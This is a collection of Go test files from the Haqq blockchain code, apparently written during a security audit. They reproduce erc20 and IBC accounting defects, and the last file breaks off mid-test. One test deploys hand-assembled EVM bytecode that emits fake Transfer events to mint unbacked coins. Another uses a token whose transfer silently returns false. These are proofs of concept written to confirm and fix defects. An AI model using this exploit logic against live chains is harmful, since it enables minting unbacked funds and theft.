// TestZZHuntC10NestedConvertClobbered
//
// Property C10: every conversion debits one representation and credits the
// other by exactly the same amount; for a coin-origin pair the ERC20 tokens in
// circulation never exceed the coins escrowed in the erc20 module account.
//
// One EVM transaction that (1) reads a holder's balance of the pair contract,
// (2) lets the ICS20 precompile convert+send 600 of that holder's tokens and
// (3) moves one more token of the same holder must leave the holder with
// 1000-600-1 = 399 tokens.
func (s *PrecompileTestSuite) TestZZHuntC10NestedConvertClobbered() {
	s.suiteIBCTesting = true
	s.SetupTest()
	defer func() { s.suiteIBCTesting = false }()

	require := s.Require()
	const denom = "atest"
	erc20ABI := haqqcontracts.ERC20MinterBurnerDecimalsContract.ABI
	moduleAcc := s.app.AccountKeeper.GetModuleAddress(erc20types.ModuleName)

	// --- a coin-origin (module owned) token pair for "atest", 1000atest minted to the signer
	ctx := s.chainA.GetContext()
	initial := sdk.NewCoins(sdk.NewInt64Coin(denom, 1000))
	require.NoError(s.app.BankKeeper.MintCoins(ctx, coinomicstypes.ModuleName, initial))
	require.NoError(s.app.BankKeeper.SendCoinsFromModuleToAccount(ctx, coinomicstypes.ModuleName, s.address.Bytes(), initial))

	pair, err := s.app.Erc20Keeper.RegisterCoin(ctx, banktypes.Metadata{
		Description: "test coin",
		Base:        denom,
		DenomUnits: []*banktypes.DenomUnit{
			{Denom: denom, Exponent: 0},
			{Denom: "test", Exponent: 18},
		},
		Name:    denom,
		Symbol:  "TEST",
		Display: "test",
	})
	require.NoError(err)
	token := pair.GetERC20Contract()
	s.chainA.NextBlock()

	// --- deploy the batch caller with a normal Ethereum transaction
	ctx = s.chainA.GetContext()
	nonce := s.app.EvmKeeper.GetNonce(ctx, s.address)
	deployTx := evmtypes.NewTx(&evmtypes.EvmTxArgs{
		ChainID:  s.app.EvmKeeper.ChainID(),
		Nonce:    nonce,
		GasLimit: 300_000,
		GasPrice: gasPrice,
		Input:    zzBatchInit,
	})
	deployTx.From = s.address.Hex()
	_, err = haqqtestutil.DeliverEthTx(s.app, s.privKey, deployTx)
	require.NoError(err)
	batch := crypto.CreateAddress(s.address, nonce)
	s.chainA.NextBlock()
	ctx = s.chainA.GetContext()
	require.Equal(zzBatchRuntime, s.app.EvmKeeper.GetCode(ctx, common.BytesToHash(s.app.EvmKeeper.GetAccountWithoutBalance(ctx, batch).CodeHash)), "batch caller deployed")

	// --- the signer converts the 1000atest into 1000 tokens held by the batch contract (plain MsgConvertCoin)
	_, err = s.app.Erc20Keeper.ConvertCoin(sdk.WrapSDKContext(ctx),
		erc20types.NewMsgConvertCoin(sdk.NewInt64Coin(denom, 1000), batch, s.address.Bytes()))
	require.NoError(err)
	// --- and allows the batch contract to send "atest" over channel-0 (ICS20 authorization, as in the existing tests)
	require.NoError(s.NewTransferAuthorizationWithAllocations(ctx, s.app, batch, s.address, []transfertypes.Allocation{{
		SourcePort:    s.transferPath.EndpointA.ChannelConfig.PortID,
		SourceChannel: s.transferPath.EndpointA.ChannelID,
		SpendLimit:    sdk.NewCoins(sdk.NewInt64Coin(denom, 1000)),
	}}))
	s.chainA.NextBlock()
	ctx = s.chainA.GetContext()

	require.Equal(int64(1000), s.app.Erc20Keeper.BalanceOf(ctx, erc20ABI, token, batch).Int64())
	require.Equal(int64(1000), s.app.BankKeeper.GetBalance(ctx, moduleAcc, denom).Amount.Int64(), "escrow before")

	// --- ONE Ethereum transaction: balanceOf(batch); ics20.transfer(600 atest of batch); token.transfer(other, 1)
	balanceOfData, err := erc20ABI.Pack("balanceOf", batch)
	require.NoError(err)
	ibcData, err := s.precompile.ABI.Pack("transfer",
		s.transferPath.EndpointA.ChannelConfig.PortID,
		s.transferPath.EndpointA.ChannelID,
		denom,
		big.NewInt(600),
		batch, // sender: the calling contract itself
		s.chainB.SenderAccount.GetAddress().String(),
		s.chainB.GetTimeoutHeight(),
		uint64(0),
		"memo",
	)
	require.NoError(err)
	transferData, err := erc20ABI.Pack("transfer", s.differentAddr, big.NewInt(1))
	require.NoError(err)

	input := zzRecord(token, balanceOfData)
	input = append(input, zzRecord(s.precompile.Address(), ibcData)...)
	input = append(input, zzRecord(token, transferData)...)

	callTx := evmtypes.NewTx(&evmtypes.EvmTxArgs{
		ChainID:  s.app.EvmKeeper.ChainID(),
		Nonce:    s.app.EvmKeeper.GetNonce(ctx, s.address),
		To:       &batch,
		GasLimit: 5_000_000,
		GasPrice: gasPrice,
		Input:    input,
	})
	callTx.From = s.address.Hex()
	_, txErr := haqqtestutil.DeliverEthTx(s.app, s.privKey, callTx)
	s.chainA.NextBlock()
	ctx = s.chainA.GetContext()

	escrow := s.app.BankKeeper.GetBalance(ctx, moduleAcc, denom).Amount
	ibcEscrow := s.app.BankKeeper.GetBalance(ctx,
		transfertypes.GetEscrowAddress(s.transferPath.EndpointA.ChannelConfig.PortID, s.transferPath.EndpointA.ChannelID), denom).Amount
	balBatch := s.app.Erc20Keeper.BalanceOf(ctx, erc20ABI, token, batch)
	balOther := s.app.Erc20Keeper.BalanceOf(ctx, erc20ABI, token, s.differentAddr)
	circulating := math.NewIntFromBigInt(new(big.Int).Add(balBatch, balOther))
	tsRes, err := s.app.Erc20Keeper.CallEVM(ctx, erc20ABI, erc20types.ModuleAddress, token, false, "totalSupply")
	require.NoError(err)
	s.T().Logf("txErr=%v erc20 escrow=%s ibc escrow=%s balanceOf(batch)=%s balanceOf(other)=%s circulating=%s totalSupply()=%s",
		txErr, escrow, ibcEscrow, balBatch, balOther, circulating, new(big.Int).SetBytes(tsRes.Ret))

	if txErr != nil {
		// "fails without effect" is an acceptable outcome
		require.Equal(int64(0), ibcEscrow.Int64(), "refused transaction sent coins")
		require.Equal(int64(1000), escrow.Int64(), "refused transaction released escrowed coins")
		require.Equal(int64(1000), balBatch.Int64(), "refused transaction moved tokens")
		return
	}

	// what happened on the bank side: 600atest left the erc20 escrow and sit in the IBC channel escrow
	require.Equal(int64(600), ibcEscrow.Int64(), "600atest were sent over IBC")
	require.Equal(int64(400), escrow.Int64(), "600atest were released from the erc20 escrow")

	// the ERC20 side must have been debited by exactly the same amount
	require.Equal(int64(1), balOther.Int64())
	require.Equal(int64(399), balBatch.Int64(),
		"holder must be left with 1000-600-1 tokens after 600 of them were converted and sent over IBC")
	require.True(circulating.LTE(escrow),
		"ERC20 tokens in circulation (%s) exceed the coins escrowed in the erc20 module (%s)", circulating, escrow)
}
