package keeper_test

// Throw-away triage test for C10 / defect 2:
// Keeper.PostTxProcessing mints coins for an OWNER_EXTERNAL pair on the strength of a
// Transfer(from, erc20ModuleAddress, n) EVENT alone, without checking that the module's
// token balance (escrow) increased.
//
// Run: go test -vet=off ./x/erc20/keeper/ -run TestKeeperTestSuite -testify.m TestZZ -ginkgo.skip='.*' -count=1 -v

import (
	"encoding/hex"
	"math/big"

	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/ethereum/go-ethereum/accounts/abi"
	"github.com/ethereum/go-ethereum/common"
	ethtypes "github.com/ethereum/go-ethereum/core/types"

	"github.com/haqq-network/haqq/contracts"
	"github.com/haqq-network/haqq/testutil"
	"github.com/haqq-network/haqq/x/erc20/types"
	evm "github.com/haqq-network/haqq/x/evm/types"
)

const c10TransferTopic0 = "ddf252ad1be2c89b69c2b068fc378daa952ba7f163c4a11628f55a4df523b3ef"

// c10EmitterRuntime: every call emits Transfer(CALLER, erc20 module address, calldata[0:32]) and STOPs.
// No storage, no balances, no return data.
//
//	6000 35 6000 52        MSTORE(0, CALLDATALOAD(0))          ; log data = amount
//	7f <topic2>            PUSH32 000..00 || erc20 module address
//	33                     CALLER                              ; topic1
//	7f <topic0>            PUSH32 keccak("Transfer(address,address,uint256)")
//	6020 6000 a3           LOG3(offset=0,size=32,topic0,topic1,topic2)
//	00                     STOP
func c10EmitterRuntime() []byte {
	topic2 := common.BytesToHash(types.ModuleAddress.Bytes()).Bytes() // left-padded to 32 bytes
	topic0, _ := hex.DecodeString(c10TransferTopic0)
	rt := []byte{0x60, 0x00, 0x35, 0x60, 0x00, 0x52}
	rt = append(rt, 0x7f)
	rt = append(rt, topic2...)
	rt = append(rt, 0x33)
	rt = append(rt, 0x7f)
	rt = append(rt, topic0...)
	rt = append(rt, 0x60, 0x20, 0x60, 0x00, 0xa3, 0x00)
	return rt
}

func (suite *KeeperTestSuite) c10SignedCall(contractAddr common.Address, data []byte, gas uint64) *evm.MsgEthereumTx {
	chainID := suite.app.EvmKeeper.ChainID()
	nonce := suite.app.EvmKeeper.GetNonce(suite.ctx, suite.address)
	tx := evm.NewTx(&evm.EvmTxArgs{
		ChainID:   chainID,
		Nonce:     nonce,
		To:        &contractAddr,
		GasLimit:  gas,
		GasFeeCap: suite.app.FeeMarketKeeper.GetBaseFee(suite.ctx),
		GasTipCap: big.NewInt(1),
		Input:     data,
		Accesses:  &ethtypes.AccessList{},
	})
	tx.From = suite.address.Hex()
	return tx
}

func (suite *KeeperTestSuite) TestZZC10HookMintsOnEventAlone() {
	suite.mintFeeCollector = true
	suite.SetupTest()
	defer func() { suite.mintFeeCollector = false }()
	suite.ensureHooksSet() // the erc20 hook is installed on the EVM keeper by app.go
	k := suite.app.Erc20Keeper
	erc20abi := contracts.ERC20MinterBurnerDecimalsContract.ABI

	params := k.GetParams(suite.ctx)
	suite.Require().True(params.EnableErc20)
	suite.Require().True(params.EnableEVMHook)

	// sanity: topic0 constant really is the ABI's Transfer event id
	suite.Require().Equal(c10TransferTopic0, hex.EncodeToString(erc20abi.Events["Transfer"].ID.Bytes()))

	runtime := c10EmitterRuntime()
	suite.Require().Equal(79, len(runtime))
	initCode := append([]byte{0x60, byte(len(runtime)), 0x80, 0x60, 0x0b, 0x60, 0x00, 0x39, 0x60, 0x00, 0xf3}, runtime...)
	suite.T().Logf("C10-2 module address=%s", types.ModuleAddress)
	suite.T().Logf("C10-2 runtime=%x", runtime)
	suite.T().Logf("C10-2 init   =%x", initCode)

	suite.Commit()
	contractAddr, err := testutil.DeployContract(suite.ctx, suite.app, suite.priv, suite.queryClientEvm,
		evm.CompiledContract{ABI: abi.ABI{}, Bin: initCode})
	suite.Require().NoError(err)
	suite.Commit()
	acct := suite.app.EvmKeeper.GetAccount(suite.ctx, contractAddr)
	suite.Require().NotNil(acct)
	suite.Require().Equal(runtime, suite.app.EvmKeeper.GetCode(suite.ctx, common.BytesToHash(acct.CodeHash)))

	denom := types.CreateDenom(contractAddr.String())
	eoa := sdk.AccAddress(suite.address.Bytes())
	n := new(big.Int).Exp(big.NewInt(10), big.NewInt(18), nil) // 1e18
	data := common.LeftPadBytes(n.Bytes(), 32)

	report := func(tag string) {
		suite.T().Logf("C10-2 %-34s supply(%s)=%s  EOA coins=%s  erc20-module coins=%s  contract storage slots=%d  BalanceOf(module)=%v",
			tag, denom,
			suite.app.BankKeeper.GetSupply(suite.ctx, denom).Amount,
			suite.app.BankKeeper.GetBalance(suite.ctx, eoa, denom).Amount,
			suite.app.BankKeeper.GetBalance(suite.ctx, sdk.AccAddress(types.ModuleAddress.Bytes()), denom).Amount,
			len(suite.app.EvmKeeper.GetAccountStorage(suite.ctx, contractAddr)),
			k.BalanceOf(suite.ctx, erc20abi, contractAddr, types.ModuleAddress),
		)
	}

	// ---- control: contract NOT registered -> event is ignored
	_ = suite.sendTx(contractAddr, suite.address, data)
	report("unregistered, after tx:")
	suite.Require().True(suite.app.BankKeeper.GetSupply(suite.ctx, denom).Amount.IsZero())
	suite.Commit()

	// ---- register the pair directly (what RegisterERC20 writes, minus the name/symbol/decimals queries)
	pair := types.NewTokenPair(contractAddr, denom, types.OWNER_EXTERNAL)
	suite.Require().True(pair.Enabled)
	k.SetTokenPair(suite.ctx, pair)
	k.SetDenomMap(suite.ctx, pair.Denom, pair.GetID())
	k.SetERC20Map(suite.ctx, contractAddr, pair.GetID())
	suite.Commit()
	report("registered, before any tx:")
	suite.Require().True(suite.app.BankKeeper.GetSupply(suite.ctx, denom).Amount.IsZero())
	suite.Require().True(suite.app.BankKeeper.GetBalance(suite.ctx, eoa, denom).Amount.IsZero())

	// ---- path 1: signed MsgEthereumTx through the EVM msg server (ApplyTransaction -> PostTxProcessing),
	//      the same entry the existing evm_hooks_test.go uses (suite.sendTx)
	tx1 := suite.c10SignedCall(contractAddr, data, 100000)
	suite.MintFeeCollector(sdk.NewCoins(sdk.NewCoin(suite.app.EvmKeeper.GetParams(suite.ctx).EvmDenom, sdk.NewInt(suite.app.FeeMarketKeeper.GetBaseFee(suite.ctx).Int64()*100000))))
	suite.Require().NoError(tx1.Sign(ethtypes.LatestSignerForChainID(suite.app.EvmKeeper.ChainID()), suite.signer))
	rsp, err := suite.app.EvmKeeper.EthereumTx(sdk.WrapSDKContext(suite.ctx), tx1)
	suite.Require().NoError(err)
	suite.Require().Empty(rsp.VmError)
	suite.Require().Len(rsp.Logs, 1)
	suite.T().Logf("C10-2 receipt log: address=%s topics=%v data=%x", rsp.Logs[0].Address, rsp.Logs[0].Topics, rsp.Logs[0].Data)
	report("path1 EvmKeeper.EthereumTx:")
	suite.Require().Equal(n.String(), suite.app.BankKeeper.GetSupply(suite.ctx, denom).Amount.String())
	suite.Require().Equal(n.String(), suite.app.BankKeeper.GetBalance(suite.ctx, eoa, denom).Amount.String())
	suite.Commit()

	// ---- path 2: direct call of the hook with the REAL receipt logs of path 1
	receipt := &ethtypes.Receipt{Logs: evm.LogsToEthereum(rsp.Logs)}
	err = k.PostTxProcessing(suite.ctx, nil, receipt)
	suite.Require().NoError(err)
	report("path2 direct PostTxProcessing:")
	suite.Require().Equal(new(big.Int).Mul(n, big.NewInt(2)).String(), suite.app.BankKeeper.GetSupply(suite.ctx, denom).Amount.String())
	suite.Commit()

	// ---- path 3: full BaseApp.DeliverTx (ante handler + msg server + hook), then commit the block
	tx3 := suite.c10SignedCall(contractAddr, data, 100000)
	_, err = testutil.DeliverEthTx(suite.app, suite.priv, tx3)
	suite.Require().NoError(err)
	suite.Commit()
	report("path3 DeliverTx + Commit:")
	want := new(big.Int).Mul(n, big.NewInt(3))
	suite.Require().Equal(want.String(), suite.app.BankKeeper.GetSupply(suite.ctx, denom).Amount.String())
	suite.Require().Equal(want.String(), suite.app.BankKeeper.GetBalance(suite.ctx, eoa, denom).Amount.String())

	// nothing backs the coins: the contract has no storage at all and cannot even answer balanceOf
	suite.Require().Equal(0, len(suite.app.EvmKeeper.GetAccountStorage(suite.ctx, contractAddr)))
	suite.Require().Nil(k.BalanceOf(suite.ctx, erc20abi, contractAddr, types.ModuleAddress))

	// for contrast: the message path (MsgConvertERC20) refuses the very same contract
	_, err = k.ConvertERC20(sdk.WrapSDKContext(suite.ctx), types.NewMsgConvertERC20(sdk.NewIntFromBigInt(n), eoa, contractAddr, suite.address))
	suite.T().Logf("C10-2 MsgConvertERC20 on the same contract: err=%v", err)
	suite.Require().Error(err)

	// the unbacked coins are ordinary bank coins: freely transferable
	other := sdk.AccAddress(common.HexToAddress("0x00000000000000000000000000000000000c0ffe").Bytes())
	suite.Require().NoError(suite.app.BankKeeper.SendCoins(suite.ctx, eoa, other, sdk.NewCoins(sdk.NewCoin(denom, sdk.NewIntFromBigInt(n)))))
	suite.T().Logf("C10-2 plain bank SendCoins of unbacked coins OK: other=%s", suite.app.BankKeeper.GetBalance(suite.ctx, other, denom))
}
