package keeper_test

// Throw-away triage test for C10 / defect 1:
// msgServer.subUnlockedERC20Tokens returns errorsmod.Wrap(nil, ...) == nil when the
// ERC20 `transfer` call returns false without reverting.
//
// Run (bug present):   go test ./x/bank/keeper/ -run TestKeeperTestSuite -testify.m TestZZ -ginkgo.skip='.*' -count=1 -v
// Run (after the fix): C10_EXPECT_FIXED=1 go test ... (same)

import (
	"encoding/hex"
	"math/big"
	"os"
	"time"

	"github.com/cosmos/cosmos-sdk/baseapp"
	sdk "github.com/cosmos/cosmos-sdk/types"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"
	"github.com/ethereum/go-ethereum/accounts/abi"
	"github.com/ethereum/go-ethereum/common"

	"github.com/haqq-network/haqq/contracts"
	"github.com/haqq-network/haqq/testutil"
	utiltx "github.com/haqq-network/haqq/testutil/tx"
	haqqbankkeeper "github.com/haqq-network/haqq/x/bank/keeper"
	erc20keeper "github.com/haqq-network/haqq/x/erc20/keeper"
	erc20types "github.com/haqq-network/haqq/x/erc20/types"
	evmtypes "github.com/haqq-network/haqq/x/evm/types"
)

// falseTransferERC20Keeper is the REAL erc20 keeper; only the wrapper's own
// `transfer` call (the one made by subUnlockedERC20Tokens through the ERC20Keeper
// interface) is answered with `false` and a nil error, i.e. exactly what a token
// contract that returns false instead of reverting produces. BalanceOf, ConvertCoin,
// GetTokenPair(ID), IsERC20Enabled are the real implementations (ConvertCoin calls the
// embedded keeper's own CallEVM, which is not intercepted).
type falseTransferERC20Keeper struct {
	erc20keeper.Keeper
	intercepted int
}

func (m *falseTransferERC20Keeper) CallEVM(
	ctx sdk.Context, a abi.ABI, from, contract common.Address, commit bool, method string, args ...interface{},
) (*evmtypes.MsgEthereumTxResponse, error) {
	if method == "transfer" {
		m.intercepted++
		ret, err := a.Methods["transfer"].Outputs.Pack(false)
		if err != nil {
			return nil, err
		}
		return &evmtypes.MsgEthereumTxResponse{Ret: ret}, nil
	}
	return m.Keeper.CallEVM(ctx, a, from, contract, commit, method, args...)
}

// c10Commit: the bank suite's own Commit() keeps the stale deliverState store in suite.ctx;
// use the same recipe as the erc20 suite (fresh ctx from the new deliverState).
func (suite *KeeperTestSuite) c10Commit() {
	var err error
	suite.ctx, err = testutil.CommitAndCreateNewCtx(suite.ctx, suite.app, time.Hour, nil)
	suite.Require().NoError(err)
	queryHelper := baseapp.NewQueryServerTestHelper(suite.ctx, suite.app.InterfaceRegistry())
	evmtypes.RegisterQueryServer(queryHelper, suite.app.EvmKeeper)
	suite.queryClientEvm = evmtypes.NewQueryClient(queryHelper)
}

func (suite *KeeperTestSuite) c10DeployERC20() common.Address {
	suite.c10Commit()
	addr, err := testutil.DeployContract(suite.ctx, suite.app, suite.priv, suite.queryClientEvm,
		contracts.ERC20MinterBurnerDecimalsContract, "coin test erc20", "token", uint8(18))
	suite.Require().NoError(err)
	suite.c10Commit()
	return addr
}

func c10ExpectFixed() bool { return os.Getenv("C10_EXPECT_FIXED") == "1" }

// Scenario A: real ERC20MinterBurnerDecimals contract + real token pair + real ConvertCoin;
// only the final transfer answers false.
func (suite *KeeperTestSuite) TestZZC10NilWrapMockTransferFalse() {
	suite.SetupTest()
	erc20abi := contracts.ERC20MinterBurnerDecimalsContract.ABI
	k := suite.app.Erc20Keeper

	contractAddr := suite.c10DeployERC20()
	pair, err := k.RegisterERC20(suite.ctx, contractAddr)
	suite.Require().NoError(err)
	suite.Require().True(pair.Enabled)

	senderEvm := suite.address
	sender := sdk.AccAddress(senderEvm.Bytes())
	receiverEvm := utiltx.GenerateAddress()
	receiver := sdk.AccAddress(receiverEvm.Bytes())
	amt := sdk.NewInt(100)

	// give the sender 100 bank coins of the pair denom the regular way: mint tokens, ConvertERC20
	_, err = k.CallEVM(suite.ctx, erc20abi, senderEvm, contractAddr, true, "mint", senderEvm, amt.BigInt())
	suite.Require().NoError(err)
	_, err = k.ConvertERC20(sdk.WrapSDKContext(suite.ctx), erc20types.NewMsgConvertERC20(amt, sender, contractAddr, senderEvm))
	suite.Require().NoError(err)
	suite.c10Commit()

	report := func(tag string, ctx sdk.Context) {
		suite.T().Logf("C10-A %s: sender coins=%s sender tokens=%v | receiver coins=%s receiver tokens=%v | module(escrow) tokens=%v | supply=%s",
			tag,
			suite.app.BankKeeper.GetBalance(ctx, sender, pair.Denom).Amount,
			k.BalanceOf(ctx, erc20abi, contractAddr, senderEvm),
			suite.app.BankKeeper.GetBalance(ctx, receiver, pair.Denom).Amount,
			k.BalanceOf(ctx, erc20abi, contractAddr, receiverEvm),
			k.BalanceOf(ctx, erc20abi, contractAddr, erc20types.ModuleAddress),
			suite.app.BankKeeper.GetSupply(ctx, pair.Denom).Amount,
		)
	}
	report("before Send", suite.ctx)
	suite.Require().Equal(amt, suite.app.BankKeeper.GetBalance(suite.ctx, sender, pair.Denom).Amount)

	mock := &falseTransferERC20Keeper{Keeper: k}
	srv := haqqbankkeeper.NewMsgServerImpl(haqqbankkeeper.NewWrappedBaseKeeper(suite.app.BankKeeper, mock, suite.app.AccountKeeper))

	// msg execution is atomic in a real tx: emulate with a cache ctx that is written only on success
	cctx, write := suite.ctx.CacheContext()
	msg := banktypes.NewMsgSend(sender, receiver, sdk.NewCoins(sdk.NewCoin(pair.Denom, amt)))
	res, err := srv.Send(sdk.WrapSDKContext(cctx), msg)
	suite.T().Logf("C10-A Send returned: res=%v err=%v (transfer calls answered false: %d)", res, err, mock.intercepted)
	suite.Require().Equal(1, mock.intercepted)
	if err == nil {
		write()
	}
	report("after Send", suite.ctx)

	if c10ExpectFixed() {
		suite.Require().Error(err)
		suite.Require().Nil(res)
		suite.Require().Contains(err.Error(), "failed to transfer erc20 tokens")
		suite.Require().Equal(amt, suite.app.BankKeeper.GetBalance(suite.ctx, sender, pair.Denom).Amount)
		return
	}
	// DEFECT: transfer returned false, yet Send reports success
	suite.Require().NoError(err)
	suite.Require().NotNil(res)
	// sender's bank coins are gone (converted to tokens held by the sender's EVM account) ...
	suite.Require().True(suite.app.BankKeeper.GetBalance(suite.ctx, sender, pair.Denom).Amount.IsZero())
	suite.Require().Equal(0, k.BalanceOf(suite.ctx, erc20abi, contractAddr, senderEvm).Cmp(amt.BigInt()))
	// ... and the receiver got nothing, neither coins nor tokens
	suite.Require().True(suite.app.BankKeeper.GetBalance(suite.ctx, receiver, pair.Denom).Amount.IsZero())
	suite.Require().Equal(0, k.BalanceOf(suite.ctx, erc20abi, contractAddr, receiverEvm).Sign())
}

// Control for scenario A: same flow with the unmodified erc20 keeper -> receiver gets the tokens.
func (suite *KeeperTestSuite) TestZZC10NilWrapControlHonestToken() {
	suite.SetupTest()
	erc20abi := contracts.ERC20MinterBurnerDecimalsContract.ABI
	k := suite.app.Erc20Keeper

	contractAddr := suite.c10DeployERC20()
	pair, err := k.RegisterERC20(suite.ctx, contractAddr)
	suite.Require().NoError(err)

	senderEvm := suite.address
	sender := sdk.AccAddress(senderEvm.Bytes())
	receiverEvm := utiltx.GenerateAddress()
	receiver := sdk.AccAddress(receiverEvm.Bytes())
	amt := sdk.NewInt(100)
	_, err = k.CallEVM(suite.ctx, erc20abi, senderEvm, contractAddr, true, "mint", senderEvm, amt.BigInt())
	suite.Require().NoError(err)
	_, err = k.ConvertERC20(sdk.WrapSDKContext(suite.ctx), erc20types.NewMsgConvertERC20(amt, sender, contractAddr, senderEvm))
	suite.Require().NoError(err)
	suite.c10Commit()

	srv := haqqbankkeeper.NewMsgServerImpl(haqqbankkeeper.NewWrappedBaseKeeper(suite.app.BankKeeper, k, suite.app.AccountKeeper))
	res, err := srv.Send(sdk.WrapSDKContext(suite.ctx), banktypes.NewMsgSend(sender, receiver, sdk.NewCoins(sdk.NewCoin(pair.Denom, amt))))
	suite.Require().NoError(err)
	suite.Require().NotNil(res)
	suite.T().Logf("C10-control: receiver tokens=%v sender coins=%s", k.BalanceOf(suite.ctx, erc20abi, contractAddr, receiverEvm),
		suite.app.BankKeeper.GetBalance(suite.ctx, sender, pair.Denom).Amount)
	suite.Require().Equal(0, k.BalanceOf(suite.ctx, erc20abi, contractAddr, receiverEvm).Cmp(amt.BigInt()))
}

// Scenario B: no mock at all. A hand-assembled contract answers balanceOf(..) with 1e18 and
// every other call (incl. transfer) with 32 zero bytes (= abi bool false), never reverting.
// It is registered as an enabled OWNER_EXTERNAL pair directly in the erc20 store.
//
// runtime (38 bytes):
//
//	6000 35 60e0 1c        selector = calldata[0:32] >> 224
//	63 70a08231 14         == balanceOf(address) ?
//	6014 57                JUMPI 0x14
//	6020 6000 f3           RETURN mem[0:32] (all zero) -> false
//	5b                     JUMPDEST (0x14)
//	67 0de0b6b3a7640000    PUSH8 1e18
//	6000 52 6020 6000 f3   MSTORE(0); RETURN mem[0:32]
const c10FalseTokenRuntime = "60003560e01c6370a0823114601457" + "60206000f3" + "5b" + "670de0b6b3a7640000" + "600052" + "60206000f3"

func (suite *KeeperTestSuite) TestZZC10NilWrapRealContractTransferFalse() {
	suite.SetupTest()
	erc20abi := contracts.ERC20MinterBurnerDecimalsContract.ABI
	k := suite.app.Erc20Keeper

	runtime, err := hex.DecodeString(c10FalseTokenRuntime)
	suite.Require().NoError(err)
	suite.Require().Equal(38, len(runtime))
	initCode := append([]byte{0x60, byte(len(runtime)), 0x80, 0x60, 0x0b, 0x60, 0x00, 0x39, 0x60, 0x00, 0xf3}, runtime...)

	suite.c10Commit()
	contractAddr, err := testutil.DeployContract(suite.ctx, suite.app, suite.priv, suite.queryClientEvm,
		evmtypes.CompiledContract{ABI: abi.ABI{}, Bin: initCode})
	suite.Require().NoError(err)
	suite.c10Commit()
	acct := suite.app.EvmKeeper.GetAccount(suite.ctx, contractAddr)
	suite.Require().NotNil(acct)
	suite.Require().Equal(runtime, suite.app.EvmKeeper.GetCode(suite.ctx, common.BytesToHash(acct.CodeHash)))

	// register directly (RegisterERC20 would query name/symbol/decimals)
	pair := erc20types.NewTokenPair(contractAddr, erc20types.CreateDenom(contractAddr.String()), erc20types.OWNER_EXTERNAL)
	k.SetTokenPair(suite.ctx, pair)
	k.SetDenomMap(suite.ctx, pair.Denom, pair.GetID())
	k.SetERC20Map(suite.ctx, contractAddr, pair.GetID())
	suite.Require().True(k.IsERC20Enabled(suite.ctx))

	senderEvm := suite.address
	sender := sdk.AccAddress(senderEvm.Bytes())
	receiverEvm := utiltx.GenerateAddress()
	receiver := sdk.AccAddress(receiverEvm.Bytes())
	amt := sdk.NewInt(5)

	// sanity: the contract behaves as designed when driven by the real keeper
	suite.Require().Equal(0, k.BalanceOf(suite.ctx, erc20abi, contractAddr, senderEvm).Cmp(big.NewInt(1e18)))
	r, err := k.CallEVM(suite.ctx, erc20abi, senderEvm, contractAddr, false, "transfer", receiverEvm, amt.BigInt())
	suite.Require().NoError(err)
	suite.Require().False(r.Failed())
	var ret erc20types.ERC20BoolResponse
	suite.Require().NoError(erc20abi.UnpackIntoInterface(&ret, "transfer", r.Ret))
	suite.Require().False(ret.Value)
	suite.T().Logf("C10-B contract=%s denom=%s transfer() ret=%x vmError=%q", contractAddr, pair.Denom, r.Ret, r.VmError)

	// sender holds no bank coins of the denom (spendable == 0 => ConvertCoin is skipped), the
	// contract reports a 1e18 token balance for everybody
	suite.Require().True(suite.app.BankKeeper.GetBalance(suite.ctx, sender, pair.Denom).Amount.IsZero())

	srv := haqqbankkeeper.NewMsgServerImpl(haqqbankkeeper.NewWrappedBaseKeeper(suite.app.BankKeeper, k, suite.app.AccountKeeper))
	cctx, write := suite.ctx.CacheContext()
	res, err := srv.Send(sdk.WrapSDKContext(cctx), banktypes.NewMsgSend(sender, receiver, sdk.NewCoins(sdk.NewCoin(pair.Denom, amt))))
	suite.T().Logf("C10-B Send returned: res=%v err=%v", res, err)
	if err == nil {
		write()
	}
	suite.T().Logf("C10-B after Send: receiver coins=%s, storage slots of token contract=%d",
		suite.app.BankKeeper.GetBalance(suite.ctx, receiver, pair.Denom).Amount, len(suite.app.EvmKeeper.GetAccountStorage(suite.ctx, contractAddr)))

	if c10ExpectFixed() {
		suite.Require().Error(err)
		suite.Require().Nil(res)
		suite.Require().Contains(err.Error(), "failed to transfer erc20 tokens")
		return
	}
	// DEFECT: real EVM call returned false (no revert); Send says OK; nothing moved anywhere
	suite.Require().NoError(err)
	suite.Require().NotNil(res)
	suite.Require().True(suite.app.BankKeeper.GetBalance(suite.ctx, receiver, pair.Denom).Amount.IsZero())
	suite.Require().Equal(0, len(suite.app.EvmKeeper.GetAccountStorage(suite.ctx, contractAddr)))
}
