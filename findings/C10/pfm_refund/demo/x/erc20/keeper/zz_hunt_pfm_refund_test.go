package keeper_test

// Haqq stacks the erc20 IBC middleware on top of the packet-forward middleware (PFM):
//
//	transfer  <-  packetforward  <-  erc20            (app/app.go)
//
// When the acknowledgement of a packet that PFM forwarded is an error (or the forwarded packet
// times out), PFM deliberately does NOT refund the sender of the forwarded packet (the derived
// intermediate account); it moves the funds back to the escrow of the first hop / burns them and
// writes the error acknowledgement of the original packet, so that the ORIGINAL sender is refunded
// on the first chain. The erc20 middleware does not know that: after the PFM callback returned it
// "converts the refunded coins of the sender to ERC20" - coins that were never refunded. For a
// registered denomination ConvertCoin fails with insufficient funds, the erc20 middleware returns
// that error and the whole MsgAcknowledgement / MsgTimeout is rejected - every time it is relayed.
// The original packet can then never be acknowledged: the user's funds stay locked for ever.

import (
	"fmt"

	sdkmath "cosmossdk.io/math"
	sdk "github.com/cosmos/cosmos-sdk/types"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"
	transfertypes "github.com/cosmos/ibc-go/v7/modules/apps/transfer/types"
	clienttypes "github.com/cosmos/ibc-go/v7/modules/core/02-client/types"
	channeltypes "github.com/cosmos/ibc-go/v7/modules/core/04-channel/types"
	host "github.com/cosmos/ibc-go/v7/modules/core/24-host"
	ibcgotesting "github.com/cosmos/ibc-go/v7/testing"

	ibctesting "github.com/haqq-network/haqq/ibc/testing"
	teststypes "github.com/haqq-network/haqq/types/tests"
	"github.com/haqq-network/haqq/x/erc20/types"
)

func (suite *KeeperTestSuite) TestZZHuntForwardedPacketRefundBlockedByAutoConversion() {
	// three chains: Osmosis <-> Haqq <-> Cosmos
	s.suiteIBCTesting = true
	s.SetupTest()
	s.suiteIBCTesting = false
	defer s.SetupTest() // leave a plain single-chain suite behind

	const amount = int64(10)

	// the uosmo voucher is a registered (coin-origin) token pair on Haqq
	osmoMeta := banktypes.Metadata{
		Description: "IBC Coin for IBC Osmosis Chain",
